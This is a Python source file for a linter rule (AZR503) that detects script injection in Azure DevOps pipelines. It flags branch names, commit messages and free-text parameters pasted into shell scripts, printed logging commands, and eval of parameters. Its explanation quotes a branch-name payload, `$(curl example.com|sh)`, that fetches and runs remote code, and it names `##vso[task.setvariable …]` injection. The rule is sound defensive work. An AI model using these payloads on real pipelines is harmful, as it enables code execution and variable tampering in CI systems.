"""AZR503: untrusted text in scripts."""

import re
from collections.abc import Mapping

from yaml import ScalarNode

from azrelease.lint.facts.scripts import Script
from azrelease.lint.facts.variables import variables
from azrelease.lint.rule import Code, Findings, LintedFile, Rule, Severity
from azrelease.syntax.embedded import macros, template_expressions

_UNTRUSTED = frozenset(
    (
        "build.sourcebranch",
        "build.sourcebranchname",
        "build.sourceversionmessage",
        "build.sourceversionauthor",
        "build.requestedfor",
        "system.pullrequest.sourcebranch",
        "system.pullrequest.sourcebranchname",
    )
)
"""Variables whose text the author of a branch or a commit chooses.

Source: learn.microsoft.com/azure/devops/pipelines/build/variables.
"""

_OF_A_RESOURCE = re.compile(r"resources\.pipeline\.[^.]+\.(?:sourcebranch|requestedfor)")
"""Variables of the run that a pipeline resource takes: the author of its branch chooses their text."""

_ARGUMENTS = {
    "bash": (("arguments",), "bash"),
    "powershell": (("arguments",), "powershell"),
    "azurepowershell": (("scriptarguments",), "powershell"),
    "azurecli": (("arguments", "scriptarguments"), None),
    "batchscript": (("arguments",), "cmd"),
    "powershellontargetmachines": (("scriptarguments", "arguments", "inlinescript"), "powershell"),
    "ssh": (("commands", "inline"), "bash"),
}
"""Inputs that a task pastes into a script or a line of a shell, with the language.

Source: the tasks, and learn.microsoft.com/azure/devops/pipelines/security/inputs (validation of the arguments of shell tasks).
"""

_VARIABLE = re.compile(r"variables(?:\[\s*'([^']+)'\s*\]|\.(\w+))", re.IGNORECASE)
_AT_RUN_TIME = frozenset(("build.sourceversionmessage", "system.pullrequest.sourcebranchname"))
"""Variables that are empty when templates are expanded."""

_COMPARES = re.compile(
    r"\s*(?:eq|ne|and|or|xor|not|in|notIn|contains|containsValue|startsWith|endsWith|gt|ge|lt|le|length)\s*\(",
    re.IGNORECASE,
)
"""Functions whose result is a boolean or a number, whatever text they compare."""

_PARAMETER = re.compile(r"\s*parameters(?:\.(\w+)|\[\s*'([^']+)'\s*\])\s*", re.IGNORECASE)


_SPELLED = ("Build.SourceVersionMessage", "Build.SourceVersionAuthor", "Build.RequestedFor")
_ANY_TEXT = frozenset(name.casefold() for name in _SPELLED)
"""Those that can contain a logging command: the name of a branch has no `[` (git-scm.com/docs/git-check-ref-format)."""

_PRINTS = {
    "bash": (r"(?:echo|printf)\b", r"\$(?:{name}\b|\{{{name}\}})"),
    "powershell": (r"(?:echo|Write-(?:Host|Output|Information))\b", r"\$(?:env:{name}\b|\{{env:{name}\}})"),
}
"""How a language prints, and how it reads an environment variable."""

_MACRO = re.compile(r"\$\(([\w.]+)\)")


def check(file: LintedFile) -> Findings:
    """Untrusted variables in macros or template expressions; parameters with any text; printed environment variables."""
    aliases = _aliases(file)
    for script in file.scripts:
        if "$" in script.text:
            yield from _printed(file, script)
            yield from _pasted(file, script, aliases)
        yield from _printed_messages(file, script)
        yield from _evaluated(file, script)
    for step in file.outline.steps:
        names, language = _ARGUMENTS.get(step.task_name, ((), None))
        for name in names:
            node = step.inputs.get(name)
            if node is not None and "$" in node.value:
                yield from _pasted(file, Script(step, node, language), aliases)


_EVALUATES = re.compile(
    r"(?:^|[;&|][ \t]*)[ \t]*(?P<program>eval|iex|Invoke-Expression)[ \t]+(?P<rest>[^\n]*)",
    re.MULTILINE | re.IGNORECASE,
)


def _evaluated(file: LintedFile, script: Script) -> Findings:
    """A parameter with any text that a script reads from its environment, and makes a part of a command again."""
    for match in _EVALUATES.finditer(script.text) if file.is_pipeline else ():
        for entry in script.step.environment:
            name = _free_parameter(file, entry.value.value) if isinstance(entry.value, ScalarNode) else None
            if name is not None and re.search(rf"\$(?:env:)?\{{?{re.escape(entry.name)}\b", script.text):
                message = f"`{match['program']}` makes the parameter `{name}` a part of a command again: a person who starts a run may run commands"
                where = (script, match.start("program"), match.end("program"))
                hint = "Call the program with its arguments as words: a list in bash, `&` and an array in PowerShell."
                yield file.in_script(RULE.code, message, where, hint, Severity.INFO)


def _free_parameter(file: LintedFile, text: str) -> str | None:
    """The parameter that is all of a template expression, where a person may give it any text."""
    whole = re.fullmatch(r"\s*\$\{\{(.*)\}\}\s*", text)
    given = _PARAMETER.fullmatch(whole[1]) if whole else None
    parameter = file.parameters.get((given[1] or given[2]).casefold()) if given else None
    return parameter.name if parameter is not None and parameter.type == "string" and parameter.values is None else None


def _aliases(file: LintedFile) -> dict[str, str]:
    """The variables of the file whose value is the text of such a variable, by name in lower case, with its name."""
    found: dict[str, str] = {}
    for variable in variables(file) if "$" in file.document.text else ():
        text = variable.node.value
        names = [match[1] for match in macros(text) if _is_untrusted(match[1].casefold())]
        whole = _WHOLE.fullmatch(text.strip())
        if whole is not None and (whole[1] or whole[2]).casefold() in _UNTRUSTED:
            names.append(whole[1] or whole[2])
        if names:
            found.setdefault(variable.name.casefold(), names[0])
    return found


_WHOLE = re.compile(r"\$(?:\{\{|\[)\s*variables(?:\[\s*'([^']+)'\s*\]|\.([\w.]+))\s*(?:\}\}|\])", re.IGNORECASE)


def _pasted(file: LintedFile, script: Script, aliases: Mapping[str, str]) -> Findings:
    for match in macros(script.text):
        name = match[1].casefold()
        if (_is_untrusted(name) or name in aliases) and not _in_comment(script, match.start()):
            what = f"`{match[0]}`" if name not in aliases else f"`{match[0]}`, which is `{aliases[name]}`,"
            who = _WHO_STARTS if name in _OF_THE_BRANCH and _starts_for_named_branches(file) else _WHO_WRITES
            message = f"{what} is pasted into the script: {who} can run commands"
            where = (script, match.start(), match.end())
            yield file.in_script(RULE.code, message, where, _instead(match[1], script))
    for part in template_expressions(script.text):
        yield from _in_template(file, script, part.text or "", (script, part.start, part.end))


_WHO_WRITES = "the author of a branch or a commit"
_WHO_STARTS = "a person who starts a run for a branch with a name of their choice"
_OF_THE_BRANCH = frozenset(("build.sourcebranch", "build.sourcebranchname"))


def _starts_for_named_branches(file: LintedFile) -> bool:
    """Whether pushes start a run for named branches only; for a pull request, the branch has a name of the service."""
    if not file.is_pipeline or file.root.entry("trigger") is None:
        return False
    block = file.root.block("trigger")
    holders = [block, *(inner for inner, _ in block.blocks("branches"))] if block is not None else []
    names = [*file.root.texts("trigger"), *(node for each in holders for node in each.texts("include"))]
    names += [node for each in holders for node in each.texts("branches")]
    return bool(names) and not any("*" in node.value or "$" in node.value for node in names)


def _is_untrusted(name: str) -> bool:
    return name in _UNTRUSTED or _OF_A_RESOURCE.fullmatch(name) is not None


_LOG = r"git[ \t]+(?:log|show)\b[^)\n;|]*%[sBb](?![A-Za-z])[^)\n;|]*"
_ASSIGNED = {
    "bash": re.compile(rf"^[ \t]*(?P<name>\w+)=[\"']?\$\([ \t]*{_LOG}\)[\"']?[ \t]*$", re.MULTILINE),
    "powershell": re.compile(rf"^[ \t]*\$(?P<name>\w+)[ \t]*=[ \t]*\(?{_LOG}\)?[ \t]*$", re.MULTILINE),
}
"""How a script keeps the message of a commit in a variable."""


def _printed_messages(file: LintedFile, script: Script) -> Findings:
    """The message of a commit, printed from a variable of the script."""
    if script.language not in _ASSIGNED or _is_restricted(script):
        return
    if script.language == "bash":
        yield from _traced(file, script)
    if "git" not in script.text:
        return
    for match in _SHOWN.finditer(script.text) if file.runs_for_pull_requests else ():
        message = f"this prints the messages of the commits of a pull request: a logging command in them, such as {_EXAMPLE}, runs"
        where = (script, match.start("command"), match.end("command"))
        yield file.in_script(RULE.code, message, where, f"Do not print them, or {_RESTRICT}.")
    printing, reading = _PRINTS[script.language]
    for assigned in _ASSIGNED[script.language].finditer(script.text):
        name = re.escape(assigned["name"])
        variable = reading.format(name=name) if script.language == "bash" else rf"\$\{{?{name}\b\}}?"
        for match in re.finditer(_PRINTED.format(printing, variable), script.text, re.MULTILINE):
            if match.start() > assigned.end() and "-replace" not in match[0] and ".Replace" not in match[0]:
                message = f"this prints the message of a commit: a logging command in it, such as {_EXAMPLE}, runs"
                where = (script, match.start("variable"), match.end("variable"))
                yield file.in_script(RULE.code, message, where, f"Do not print it, or {_RESTRICT}.")


_SHOWN = re.compile(
    r"^[ \t]*(?P<command>git[ \t]+(?:--no-pager[ \t]+)?log\b(?:[ \t]+(?!--format|--pretty|--oneline|-q|--stat|--name)[^\s|>;&]+)*"
    r"(?:[ \t]+(?:--oneline|--(?:pretty|format)[= ][\"']?(?:(?:format:)?[^\n|>;&]*%[sBb](?![A-Za-z])|oneline|short|medium|full)[^\n|>;&]*))?)"
    r"(?:[ \t]+[^\s|>;&%]+)*[ \t]*$",
    re.MULTILINE,
)
"""The log of git with the messages of commits, which nothing captures or filters."""

_TRACES = re.compile(r"^[ \t]*set[ \t]+-\w*x\w*|^[ \t]*set[ \t]+-o[ \t]+xtrace", re.MULTILINE)
_TRACES_NO_MORE = re.compile(r"^[ \t]*(?:\{[ \t]*)?set[ \t]+(?:\+\w*x|\+o[ \t]+xtrace)", re.MULTILINE)


def _traced(file: LintedFile, script: Script) -> Findings:
    """Such text in a command that bash prints, since the script asks it to."""
    for trace in _TRACES.finditer(script.text) if "set" in script.text else ():
        stop = _TRACES_NO_MORE.search(script.text, trace.end())
        end = stop.start() if stop else len(script.text)
        for name, source in _environment(script).items():
            if re.compile(rf"\$(?:{re.escape(name)}\b|\{{{re.escape(name)}\b)").search(script.text, trace.end(), end):
                message = f"bash prints each command with `{source}` in it: a logging command in that, such as {_EXAMPLE}, runs"
                yield file.in_script(
                    RULE.code, message, (script, trace.start(), trace.end()), f"Remove it, or {_RESTRICT}."
                )
                return


_PRINTED = r"^[ \t]*{}[^|>;&'`\n]*?(?P<variable>{})[^|>;&`\n]*$"
_EXAMPLE = "`##vso[task.setvariable …]`"


def _is_restricted(script: Script) -> bool:
    """Whether the step limits which logging commands run."""
    target = script.step.block.block("target")
    return target is not None and target.entry("commands") is not None


def _printed(file: LintedFile, script: Script) -> Findings:
    """Untrusted text that a script prints from its environment: the agent runs the logging commands in it."""
    if script.language not in _PRINTS or _is_restricted(script):
        return
    printing, reading = _PRINTS[script.language]
    for name, source in _environment(script).items():
        # A pipe, a file or a substitution may redirect the text; single quotes prevent the expansion.
        variable = reading.format(name=re.escape(name))
        pattern = _PRINTED.format(printing, variable)
        flags = re.MULTILINE | (re.IGNORECASE if script.language == "powershell" else 0)
        for match in re.finditer(pattern, script.text, flags):
            if "-replace" in match[0] or ".Replace" in match[0]:
                continue
            message = f"this prints `{source}`: a logging command in it, such as {_EXAMPLE}, runs"
            where = (script, match.start("variable"), match.end("variable"))
            yield file.in_script(RULE.code, message, where, f"Do not print it, or {_RESTRICT}.")


_RESTRICT = "give the step `target: {commands: restricted, settableVariables: none}`"


def _environment(script: Script) -> dict[str, str]:
    """The environment variables of a script with such text, each with the predefined variable that it comes from."""
    variables = {name.upper().replace(".", "_"): name for name in _SPELLED}
    for entry in script.step.environment:
        macro = _MACRO.fullmatch(entry.value.value.strip()) if isinstance(entry.value, ScalarNode) else None
        if macro is not None and macro[1].casefold() in _ANY_TEXT:
            variables[entry.name] = macro[1]
    return variables


def _in_comment(script: Script, position: int) -> bool:
    return script.language != "cmd" and script.line_before(position).startswith("#")


def _in_template(file: LintedFile, script: Script, text: str, where: tuple[Script, int, int]) -> Findings:
    for variable in () if _COMPARES.match(text) else _VARIABLE.finditer(text):
        name = variable[1] or variable[2]
        if name.casefold() in _UNTRUSTED - _AT_RUN_TIME:
            message = f"`{name}` is pasted into the script: the author of a branch or a commit can run commands"
            yield file.in_script(RULE.code, message, where, _instead(name, script))
    given = _PARAMETER.fullmatch(text)
    name = (given[1] or given[2]) if given else ""
    parameter = file.parameters.get(name.casefold()) if file.is_pipeline else None
    if parameter is not None and parameter.type == "string" and parameter.values is None:
        message = f"the parameter `{name}` is pasted into the script: a person who starts a run can run commands"
        hint = f"Pass it in `env`, or list its `values`. If the script prints it, {_RESTRICT}."
        level = Severity.WARNING if _has_connection(script) else Severity.INFO
        yield file.in_script(RULE.code, message, where, hint, level)


def _has_connection(script: Script) -> bool:
    """Whether a script runs signed in with a service connection, and so do the commands of a person who starts a run."""
    return script.step.task_name in ("azurecli", "azurepowershell")


def _instead(name: str, script: Script) -> str:
    variable = re.sub(r"\W", "_", name).upper()
    use = f"$env:{variable}" if script.language == "powershell" else f'"${variable}"'
    if script.language == "python":
        use = f"os.environ['{variable}']"
    if script.language == "cmd":
        return "Use a script in bash or PowerShell, which can read it from the environment as data."
    printed = f" If the script prints it, {_RESTRICT}." if name.casefold() in _ANY_TEXT else ""
    return f"Read it from the environment, as data: `{use}`.{printed}"


RULE = Rule(
    code=Code("AZR503", "script-injection", Severity.WARNING),
    summary="untrusted text is pasted into a script",
    why=(
        "Macros and template expressions put their text into the script before the shell reads it: the command in a branch name such as "
        '`"$(curl example.com|sh)"` runs. The environment has the same text as data '
        "(learn.microsoft.com/azure/devops/pipelines/security/inputs). The agent still reads that text when a script prints it: "
        "`##vso[…]` in the message of a commit sets variables, also when it comes from `git log`, except in a step with `target: {commands: restricted, settableVariables: none}` "
        "(learn.microsoft.com/azure/devops/pipelines/yaml-schema/target)."
    ),
    wrong="steps:\n- bash: ./tag.sh $(Build.SourceBranchName)\n",
    right='steps:\n- bash: ./tag.sh "$BUILD_SOURCEBRANCHNAME"\n',
    check=check,
)
